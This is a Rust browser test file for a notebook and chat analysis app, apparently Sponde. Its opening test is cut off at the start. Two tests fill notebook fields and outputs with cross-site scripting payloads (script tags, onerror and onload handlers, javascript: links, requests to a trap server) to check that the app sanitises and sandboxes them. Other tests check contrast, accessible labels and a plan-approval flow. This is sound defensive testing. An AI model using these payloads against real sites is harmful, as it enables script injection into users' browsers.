        .await;
    let mut chart = browser.frame_with(".js-plotly-plot").await;
    chart
        .until("document.querySelector('.js-plotly-plot text.gtitle a, .gtitle')")
        .await;
    trap.assert_nobody_came();
    // What is shown without a frame: nothing of it runs or loads.
    page.eval("window.probes = {}; 1").await;
    let inline = format!(
        "display(HTML('<table><tr><td onclick=\"parent.postMessage({{probe:1}})\"><img src=\"{bait}/i.png\" onerror=\"postMessage({{probe:2}})\"><a href=\"javascript:postMessage({{probe:3}})\">link</a>cell</td></tr></table>'))\n\
         display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"20\" onload=\"parent.postMessage({{probe:4}})\"><script>parent.postMessage({{probe:5}})</script><image href=\"{bait}/svg.png\"/></svg>'))\n\
         display(Markdown('<img src=x onerror=\"postMessage({{probe:6}})\"> ![x]({bait}/md.png) [l](javascript:postMessage({{probe:7}})) *done*'))\n\
         print('\\x1b]8;;{bait}/osc\\x07link\\x1b]8;;\\x07 <img src=x onerror=postMessage({{probe:8}})>')"
    );
    run(&mut page, &inline).await;
    ended(&mut page, 10).await;
    page.sees("done").await;
    page.until("[...document.querySelectorAll('.outputs img')].length > 0")
        .await;
    page.eval("document.querySelectorAll('.outputs a:not([href^=http])').forEach((it) => it.click()); document.querySelectorAll('.outputs td').forEach((it) => it.click()); 1")
        .await;
    page.eval(
        "new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))",
    )
    .await;
    assert_eq!(page.eval("Object.keys(probes)").await, json!([]));
    assert_eq!(page.eval("location.href").await, address);
    let on = "[...document.querySelectorAll('.outputs *')].some((it) => [...it.attributes].some((a) => a.name.startsWith('on') || /^javascript:/i.test(a.value)))";
    assert_eq!(page.eval(on).await, false);
    trap.assert_nobody_came();
    let origin = server.origin();
    let foreign = page.requested();
    assert!(
        foreign
            .iter()
            .all(|it| it.starts_with(origin) || it.starts_with("data:") || it.starts_with("blob:")),
        "{foreign:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_notebook_runs_nothing() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let trap = Bait::start().await;
    let bait = trap.address.clone();
    let sponde = sponde();
    let attack = |n: u32| {
        format!(
            "<img src=\"{bait}/{n}\" onerror=\"window.pwned={n}\"><script>window.pwned={n};parent.postMessage({{probe:'{n}'}},'*')</script><svg onload=\"window.pwned={n}\"></svg><iframe srcdoc=\"<script>parent.pwned={n}</script>\"></iframe>"
        )
    };
    let notebook = json!({"nbformat": 4, "nbformat_minor": 5,
    "metadata": {"kernelspec": {"name": "python3", "display_name": attack(1), "language": attack(2)},
        "language_info": {"name": "python"}, "sponde": {"model": attack(3), "title": attack(4)}, "title": attack(5)},
    "cells": [
        {"cell_type": "markdown", "id": "a", "metadata": {}, "source": format!("# Title {}\n\n[x](javascript:window.pwned=6) ![y](attachment:z.svg)", attack(6)),
            "attachments": {"z.svg": {"image/svg+xml": attack(7)}}},
        {"cell_type": "raw", "id": "b", "metadata": {}, "source": attack(8)},
        {"cell_type": "markdown", "id": "c", "metadata": {"sponde": {"role": "assistant", "step": 1}}, "source": attack(9)},
        {"cell_type": "code", "id": "d", "metadata": {"sponde": {"status": attack(10), "reason": attack(11)}, "tags": [attack(12)]}, "source": attack(13), "execution_count": 1,
            "outputs": [
                {"output_type": "stream", "name": "stdout", "text": attack(14)},
                {"output_type": "stream", "name": attack(15), "text": "odd stream"},
                {"output_type": "error", "ename": attack(16), "evalue": attack(17), "traceback": [attack(18)]},
                {"output_type": "display_data", "metadata": {"image/png": {"width": attack(19)}}, "data": {"image/png": attack(20), "text/plain": attack(21)}},
                {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": attack(22)}},
                {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": attack(23)}},
                {"output_type": "display_data", "metadata": {}, "data": {"text/latex": attack(24)}},
                {"output_type": "display_data", "metadata": {}, "data": {"application/json": {"x": attack(25)}}},
                {"output_type": "display_data", "metadata": {}, "data": {attack(26): attack(27)}},
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": attack(28)}},
                {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "parent.pwned = 29"}},
                {"output_type": attack(30), "x": attack(31)},
            ]},
    ]});
    sponde.write("hostile.ipynb", notebook.to_string());
    let server = Server::start(&sponde, &port_zero());
    let mut page = browser.open(&server.url).await;
    page.sees("What would you like to find out?").await;
    let id = page
        .eval("fetch('api/sessions', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({notebook: 'hostile.ipynb'})}).then((it) => it.json()).then((it) => it.id ?? JSON.stringify(it))")
        .await;
    page.eval(LISTEN).await;
    page.eval(&format!("location.hash = '#/s/' + {id}")).await;
    page.sees("odd stream").await;
    page.until("document.querySelectorAll('iframe').length >= 2")
        .await;
    for view in ["Notebook", "Chat"] {
        page.press(view).await;
        page.eval(
            "document.querySelectorAll('.error-line, summary').forEach((it) => it.click()); 1",
        )
        .await;
        page.eval(
            "new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))",
        )
        .await;
    }
    // The frames have run what is in them, once they are looked at.
    page.eval("document.querySelectorAll('iframe').forEach((it) => it.scrollIntoView()); 1")
        .await;
    page.until("'28' in probes").await;
    assert_eq!(page.eval("window.pwned ?? null").await, Value::Null);
    assert_eq!(page.eval("Object.keys(probes)").await, json!(["28"]));
    let alive = "[...document.querySelectorAll('.app *')].filter((it) => /^(script|iframe)$/i.test(it.tagName) && !it.matches('iframe[sandbox]') || [...it.attributes].some((a) => /^on/.test(a.name) || /^javascript:/i.test(a.value))).map((it) => it.outerHTML)";
    assert_eq!(page.eval(alive).await, json!([]));
    trap.assert_nobody_came();
}

/// Colours as they are seen: `rgba`, `over` each other, the `ground` of an element, their `light`, and the `ratio` of two.
const COLOURS: &str = r"
  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  const rgba = (colour) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = '#000'; canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); const [r, g, b, a] = canvas.getImageData(0, 0, 1, 1).data; return [r, g, b, a / 255]; };
  const over = (top, under) => top.slice(0, 3).map((c, i) => c * top[3] + under[i] * (1 - top[3]));
  const ground = (it) => { const all = []; for (; it; it = it.parentElement) { const c = rgba(getComputedStyle(it).backgroundColor); all.push(c); if (c[3] === 1) break; } return all.reduceRight((under, top) => over(top, under), [255, 255, 255]); };
  const light = (c) => { const [r, g, b] = c.map((v) => { v /= 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4; }); return .2126 * r + .7152 * g + .0722 * b; };
  const ratio = (top, under) => { const [a, b] = [light(over(top, under)), light(under)].sort((x, y) => y - x); return (a + .05) / (b + .05); };
";

/// Text that is harder to read than WCAG's AA allows (4.5, or 3 if it is large).
const CONTRAST: &str = r"(() => {
  $COLOURS
  const bad = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node; (node = walk.nextNode());) {
    const it = node.parentElement;
    if (!node.data.trim() || !it.checkVisibility({opacityProperty: true, visibilityProperty: true}) || it.closest(':disabled, .hidden, .skip')) continue;
    const style = getComputedStyle(it), under = ground(it);
    const size = parseFloat(style.fontSize), needed = size >= 24 || (size >= 18.66 && style.fontWeight >= 700) ? 3 : 4.5;
    const seen = ratio(rgba(style.color), under);
    if (seen < needed) bad.push(`${seen.toFixed(2)} ${it.tagName}.${it.className}: ${node.data.trim().slice(0, 40)}`);
  }
  return [...new Set(bad)];
})()";

/// What has no name for who cannot see it, and what is wider than the screen.
const NAMED: &str = r"[...document.querySelectorAll('button, a, input, select, textarea, img, iframe, [role=menuitem]')].filter((it) => it.checkVisibility({visibilityProperty: true}) &&
  !(it.innerText?.trim() || it.getAttribute('aria-label') || it.title || it.alt || it.labels?.length || it.getAttribute('aria-hidden') || it.alt === '')).map((it) => it.outerHTML.slice(0, 120))
  .concat(document.documentElement.scrollWidth > innerWidth ? ['the page is wider than the screen'] : [])";

/// Walks through the page in both colours and both sizes. `SPONDE_PICTURES` names a directory for pictures of it.
#[tokio::test(flavor = "multi_thread")]
async fn the_page_can_be_read_in_all_colours_and_sizes() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let pictures = std::env::var_os("SPONDE_PICTURES").map(PathBuf::from);
    let look = "import pandas as pd\n\nweather = pd.read_csv(\"weather.csv\", parse_dates=[\"date\"])\nweather[\"month\"] = weather[\"date\"].dt.month\nprint(f\"{len(weather)} rows, {weather['city'].nunique()} cities\")\nweather";
    let draw = "import matplotlib.pyplot as plt\n\nmonthly = weather.groupby([\"month\", \"city\"])[\"high\"].mean().unstack()\nax = monthly.plot(figsize=(7, 2.8), lw=2)\nax.set_ylabel(\"mean high, °C\")\nplt.show()\nprint(monthly.loc[[1, 7]].round(1))";
    let mock = Aimock::start(&json!([
        {"match": {"turnIndex": 0}, "response": call("I'll load `weather.csv` and look at the first rows.\n", look)},
        {"match": {"turnIndex": 1}, "response": call("Two cities, one row a day. Now the monthly mean of each.\n", draw)},
        {"match": {"turnIndex": 2}, "response": {"content": "**New York is warmer from April to October**, and colder in winter:\n\n| | Seattle | New York |\n|---|--:|--:|\n| January | 8.1 °C | 4.0 °C |\n| July | 24.9 °C | 29.7 °C |\n\nThe curves cross in April and in October.\n"}},
    ]))
    .await;
    let sponde = Sponde::new().with_model(&mock);
    let mut rows = "date,city,high\n".to_owned();
    for day in 0..365_i32 {
        let date = jiff::civil::date(2025, 1, 1) + jiff::Span::new().days(day);
        let season = (f64::from(day - 196) / 365.0 * std::f64::consts::TAU).cos();
        let noise = f64::from(day * 7919 % 13) / 3.0 - 2.0;
        for (city, mean, swing) in [("Seattle", 16.6, 8.5), ("New York", 16.9, 13.0)] {
            use std::fmt::Write as _;
            let high = mean + swing * season + noise;
            writeln!(rows, "{date},{city},{high:.1}").unwrap();
        }
    }
    sponde.write("weather.csv", rows);
    let server = Server::start(&sponde, &port_zero());
    let mut page = browser.open(&server.url).await;
    page.sees("What would you like to find out?").await;
    let mut seen = Walk {
        page: &mut page,
        pictures,
    };
    seen.at("home").await;
    seen.page.resize(1280, 860, "light").await;
    seen.page.click(".composer textarea").await;
    seen.page
        .write("Which city is warmer, and when? The data is in weather.csv.")
        .await;
    seen.page.key("Enter").await;
    seen.page.sees("Run this code?").await;
    seen.page
        .until("document.querySelector('.source .h-k')")
        .await;
    seen.at("").await;
    seen.page.resize(1280, 860, "light").await;
    seen.page.press("Run").await;
    seen.page
        .until(
            "document.querySelectorAll('.source').length === 2 && document.querySelector('.ask')",
        )
        .await;
    seen.page.press("Run").await;
    seen.page
        .until("document.querySelector('.model td') && document.querySelector('.picture img')?.naturalWidth > 100 && document.querySelector('.rich table')")
        .await;
    seen.at("answer").await;
    seen.page.resize(1280, 860, "light").await;
    seen.page.press("Variables, files, kernels, cost").await;
    seen.page.sees("weather").await;
    seen.page
        .until("document.querySelector('.rows code')")
        .await;
    seen.at("").await;
    for tab in ["Files", "Kernels", "Cost", "History"] {
        seen.page.press(tab).await;
        seen.at("").await;
    }
    seen.page.press("Close panel").await;
    seen.page.resize(1280, 860, "light").await;
    seen.page.click(".explore").await;
    seen.page.sees("730 rows").await;
    seen.page.press("Profile of high").await;
    seen.page
        .until("document.querySelectorAll('.histogram rect').length > 4")
        .await;
    seen.at("table").await;
    seen.page.key("Escape").await;
    run(
        seen.page,
        "print('\\x1b[33mcareful\\x1b[0m')\nraise ValueError('no such city')",
    )
    .await;
    seen.page
        .until("document.querySelector('.error-line')")
        .await;
    seen.page.click(".error-line").await;
    seen.at("").await;
    seen.page.resize(1280, 860, "light").await;
    seen.page.press("Notebook").await;
    seen.at("").await;
    assert_is_clean(&mut page, &server).await;
    mock.stop().await;
}

struct Walk<'a> {
    page: &'a mut Page,
    pictures: Option<PathBuf>,
}

impl Walk<'_> {
    /// Looks at the page as it is now, in all colours and sizes; with a name it is worth a picture.
    async fn at(&mut self, name: &str) {
        for (width, height) in [(1280, 860), (390, 844)] {
            for scheme in ["light", "dark"] {
                self.page.resize(width, height, scheme).await;
                self.page
                    .eval("new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))")
                    .await;
                let place = format!("{name} at {width} in {scheme}");
                let contrast = CONTRAST.replace("$COLOURS", COLOURS);
                assert_eq!(self.page.eval(&contrast).await, json!([]), "{place}");
                assert_eq!(self.page.eval(NAMED).await, json!([]), "{place}");
                if let Some(dir) = self.pictures.as_ref().filter(|_| !name.is_empty()) {
                    let picture = self.page.picture().await;
                    let file = dir.join(format!("page-{name}-{width}-{scheme}.png"));
                    std::fs::write(file, picture).unwrap();
                }
            }
        }
    }
}

/// A plan is written, changed and carried out, and the questions that could follow are asked with one press.
#[tokio::test(flavor = "multi_thread")]
async fn a_plan_is_approved_and_questions_follow() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let words = |text: &str| json!({"content": text});
    let answers = [
        words("1. Load it\n2. Sum it"),
        words("1. Sum only"),
        call("So I sum.", "print('sum', 6 * 7)"),
        words("It is **42**."),
        words("1. Which part is the largest?\n2. Why?"),
    ];
    let by_turn = answers.iter().enumerate();
    let by_turn =
        by_turn.map(|(turn, answer)| json!({"match": {"turnIndex": turn}, "response": answer}));
    // Suggestions are no turn of the conversation.
    let why = json!({"match": {"userMessage": "Why?"}, "response": words("Because.")});
    let fixtures: Vec<Value> = std::iter::once(why).chain(by_turn).collect();
    let mock = Aimock::start(&json!(fixtures)).await;
    let sponde = Sponde::new().with_model(&mock);
    let server = Server::start(&sponde, &port_zero());
    let mut page = browser.open(&server.url).await;
    page.sees("What would you like to find out?").await;
    page.press("Plan").await;
    page.write("Sum it").await;
    page.key("Enter").await;
    page.sees("Approve this plan?").await;
    assert!(page.eval("!document.querySelector('article.code')").await == true);
    page.click("[aria-label='Approve the plan?'] input").await;
    page.write("leave the first step out").await;
    page.press("Plan again").await;
    page.sees("Sum only").await;
    page.press("Approve").await;
    page.sees("sum 42").await;
    page.until("document.querySelector('.model strong')?.innerText === '42'")
        .await;
    page.press("More").await;
    page.press("Suggest questions").await;
    page.press("Why?").await;
    page.sees("Because.").await;
    assert!(
        page.eval("document.querySelector('[aria-label=\"Input mode\"] [aria-checked=true]').innerText === 'Ask'")
            .await
            == true
    );
    assert_is_clean(&mut page, &server).await;
    mock.stop().await;
}
